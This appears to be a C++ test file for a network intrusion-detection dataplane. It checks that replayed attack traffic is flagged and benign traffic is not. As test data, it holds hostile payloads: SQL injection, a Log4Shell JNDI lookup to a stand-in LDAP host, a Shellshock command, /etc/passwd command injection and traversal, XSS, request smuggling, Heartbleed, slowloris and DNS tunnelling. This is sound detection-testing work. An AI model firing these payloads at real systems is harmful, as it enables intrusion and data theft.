// Threats in what ends say, on a live NIC under default settings, and ordinary conversations that raise none.
#include <unistd.h>

#include <chrono>
#include <thread>

#include "engine/test_live.h"

using namespace vmoat;
using namespace vmoat::test;
using namespace std::chrono_literals;

namespace {

struct Said {
  bool client;
  Buffer bytes;
};

uint16_t port_of(uint32_t n) {
  return static_cast<uint16_t>(1024 + n % 60000);
}

/** A connection of the guest's in which both ends say this, one after the other. */
void converse(const LiveNic& nic, uint32_t n, uint16_t server_port, const std::vector<Said>& said) {
  const uint16_t port = port_of(n);
  nic.connect(v4(1), v4(2), port, server_port);
  uint32_t mine = 101, its = 501;
  for (const auto& [client, bytes] : said) {
    if (client) {
      nic.send_ip(v4(1), v4(2), 6, tcp(port, server_port, mine, its, psh | ack, bytes));
      mine += static_cast<uint32_t>(bytes.size());
    } else {
      nic.receive_ip(v4(2), v4(1), 6, tcp(server_port, port, its, mine, psh | ack, bytes));
      its += static_cast<uint32_t>(bytes.size());
    }
  }
}

const Buffer answer = text("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");

LiveCase request(const std::string& threat, const std::string& head) {
  return {threat, [=](const LiveNic& nic, uint32_t n) {
            converse(nic, n, 80, {{true, text(head)}, {false, answer}});
          }};
}

/** A request that is cut at every one of its bytes, by the number of the call. */
LiveCase cut_request(const std::string& threat, const std::string& head) {
  return {threat, [=](const LiveNic& nic, uint32_t n) {
            const size_t at = 1 + n % (head.size() - 1);
            converse(nic, n, 80,
                     {{true, text(head.substr(0, at))}, {true, text(head.substr(at))}, {false, answer}});
          }};
}

std::vector<LiveCase> requests() {
  const std::string host = " HTTP/1.1\r\nHost: shop\r\n";
  return {
      cut_request("sql-injection", "GET /item?id=1%27%20OR%20%271%27%3D%271" + host + "\r\n"),
      cut_request("log4shell", "GET /" + host + "User-Agent: ${${lower:j}ndi:ldap://192.0.2.1/a}\r\n\r\n"),
      request("struts", "GET /%24%7B%28111%2A222%29%7D/x.action" + host + "\r\n"),
      request("spring4shell", "GET /?class.module.classLoader.x=1" + host + "\r\n"),
      request("shellshock", "GET /cgi-bin/x" + host + "Referer: () { :;}; id\r\n\r\n"),
      request("command-injection", "GET /ping?host=127.0.0.1%3Bcat%20/etc/passwd" + host + "\r\n"),
      request("code-injection", "GET /?name=%27.passthru(%24_GET%5Bc%5D).%27" + host + "\r\n"),
      request("thinkphp", "GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction" + host + "\r\n"),
      request("web-scanner", "GET /" + host + "User-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n"),
      request("path-traversal", "GET /../../etc/passwd" + host + "\r\n"),
      request("cross-site-scripting", "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E" + host + "\r\n"),
      request("http-negative-length", "POST /" + host + "Content-Length: -1\r\n\r\n"),
      request("http-smuggling",
              "POST /" + host + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
      {"slowloris",  // of 25 connections every half second one field more
       [=](const LiveNic& nic, uint32_t n) {
         const std::string head = "GET /" + host, field = "X-a: b\r\n";
         const auto next = static_cast<uint32_t>(101 + head.size() + n * field.size());
         for (uint32_t i = 0; i < 25; i++)
           if (n == 0) {
             converse(nic, i, 80, {{true, text(head)}});
           } else {
             nic.send_ip(v4(1), v4(2), 6,
                         tcp(port_of(i), 80, static_cast<uint32_t>(next - field.size()), 501, psh | ack,
                             text(field)));
           }
         std::this_thread::sleep_for(500ms);
       }},
  };
}

LiveCase query(const std::string& threat, const Buffer& rest) {
  return {threat, [=](const LiveNic& nic, uint32_t n) {
            nic.send_ip(v4(1), v4(2), 17, udp(port_of(n), 53, hex("1234 0100 0001 0000 0000 0000") + rest));
          }};
}

std::vector<LiveCase> names() {
  Buffer long_name;
  for (int i = 0; i < 5; i++) long_name = long_name + hex("3f") + Buffer(63, 'x');
  return {
      query("dns-loop", hex("c00c 0001 0001")),
      query("dns-overflow", long_name + hex("00 0001 0001")),
      query("dns-zone-transfer", hex("01 61 00 00fc 0001")),
      query("dns-null-type", hex("01 61 00 000a 0001")),
      {"dns-tunnel",
       [](const LiveNic& nic, uint32_t n) {
         Buffer label(60, 'a');
         uint64_t state = n + 1;
         for (uint8_t& byte : label) {
           state = state * 6364136223846793005 + 1442695040888963407;
           byte = static_cast<uint8_t>("0123456789abcdef"[state >> 60]);
         }
         const Buffer name = hex("3c") + label + hex("01 74 07") + text("example") + hex("00 0001 0001");
         nic.send_ip(v4(1), v4(2), 17, udp(port_of(n), 53, hex("1234 0100 0001 0000 0000 0000") + name));
       }},
  };
}

/** A record of TLS with its length. */
Buffer record(uint8_t type, const Buffer& body) {
  return Buffer{type, 3, 3} + be16(static_cast<uint16_t>(body.size())) + body;
}

Buffer hello(uint8_t type, uint16_t version, const Buffer& rest) {
  const Buffer body = be16(version) + Buffer(32, 'r') + rest;
  return record(22, Buffer{type, 0} + be16(static_cast<uint16_t>(body.size())) + body);
}

const Buffer client_hello = hello(1, 0x0303, hex("00 0004 c02f 00ff 01 00 0005 000f 0001 01"));

LiveCase handshake(const std::string& threat, uint16_t version, uint16_t cipher, const Buffer& then = {}) {
  return {threat, [=](const LiveNic& nic, uint32_t n) {
            std::vector<Said> said = {{true, client_hello},
                                      {false, hello(2, version, hex("00") + be16(cipher) + hex("00"))}};
            if (!then.empty()) said.push_back({true, then});
            converse(nic, n, 443, said);
          }};
}

std::vector<LiveCase> greetings() {
  const Buffer denied = hex("19000000 ff 1504") + text("Access denied for user");
  return {
      handshake("heartbleed", 0x0303, 0xc02f, record(24, hex("01 4000"))),
      handshake("obsolete-tls", 0x0301, 0xc014),
      handshake("weak-cipher", 0x0303, 0x0004),
      {"ssh-v1",
       [](const LiveNic& nic, uint32_t n) {
         converse(nic, n, 22,
                  {{false, text("SSH-1.5-OpenSSH_3.0\n")}, {true, text("SSH-1.5-OpenSSH_3.0\n")}});
       }},
      {"mysql-access-denied",
       [=](const LiveNic& nic, uint32_t n) { converse(nic, n, 3306, {{false, denied}}); }},
  };
}

std::vector<LiveCase> conversations() {
  const std::string host = " HTTP/1.1\r\nHost: shop\r\n";
  return {
      request("", "GET /search?q=O%27Reilly%20and%20sons" + host + "\r\n"),
      request("",
              "GET /search?q=SELECT%20*%20FROM%20t%20WHERE%20a%20%3D%201%20OR%20b%20%3D%202" + host + "\r\n"),
      request("", "POST /upload" + host + "Transfer-Encoding: chunked\r\n\r\n3\r\na=b\r\n0\r\n\r\n"),
      request("", "GET /a/../b?next=../index" + host + "Cookie: a=\"b\"; c={1}\r\n\r\n"),
      request("",
              "GET /?s=think&q=passthru()" + host + "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n"),
      handshake("", 0x0303, 0xc02f, record(24, hex("01 0001 61") + Buffer(16, 0))),
      {"",
       [](const LiveNic& nic, uint32_t n) {
         converse(nic, n, 22,
                  {{false, text("SSH-2.0-OpenSSH_9.2p1\r\n")}, {true, text("SSH-2.0-OpenSSH_9.2p1\r\n")}});
       }},
      query("", hex("03 777777 07 6578616d706c65 00 0001 0001")),
  };
}

/** Calls it until the threat is raised at the NIC; false where that takes too long. */
bool attack(Raised& raised, const LiveNic& nic, uint16_t slot, const LiveCase& one) {
  const auto end = std::chrono::steady_clock::now() + 120s;
  for (uint32_t n = 0; std::chrono::steady_clock::now() < end; n++) {
    one.run(nic, n);
    if (raised.within(n % 8 == 7 ? 50ms : 0ms, slot, one.threat)) return true;
  }
  return false;
}

struct Lab {
  explicit Lab(Raised& sink) {
    DataplaneConfig config;
    config.pin_root = "/sys/fs/bpf/vmt-content-" + std::to_string(::getpid());
    auto started = Dataplane::start(config, sink);
    if (!started) FAIL(started.error().what);
    dataplane = std::move(*started);
  }
  OwnNamespace space;
  std::unique_ptr<Dataplane> dataplane;
};

}  // namespace

TEST_CASE("live: threats in what ends say are raised at the NIC where they are said") {
  if (!has_root()) return;
  Raised raised;
  Lab lab(raised);
  int number = 0;
  for (const auto& part : {requests(), names(), greetings()})
    for (const LiveCase& one : part) {
      CAPTURE(one.threat);
      const std::string tap = "vmt-c" + std::to_string(number++);
      const LiveNic nic(tap);
      const uint16_t slot = raised.slot_of(tap);
      REQUIRE(slot != no_slot);
      CHECK(attack(raised, nic, slot, one));
    }
  CHECK(lab.dataplane->stop(true).ok());
}

TEST_CASE("live: ordinary conversations raise nothing") {
  if (!has_root()) return;
  Raised raised;
  Lab lab(raised);
  int number = 0;
  for (const LiveCase& one : conversations()) {
    const std::string tap = "vmt-c" + std::to_string(number++);
    const LiveNic nic(tap);
    const uint16_t slot = raised.slot_of(tap);
    REQUIRE(slot != no_slot);
    for (uint32_t n = 0; n < 10; n++) one.run(nic, n);
    CHECK(raised.reports(3));
    CHECK(raised.at(slot) == std::set<std::string>{});
  }
  CHECK(lab.dataplane->stop(true).ok());
}
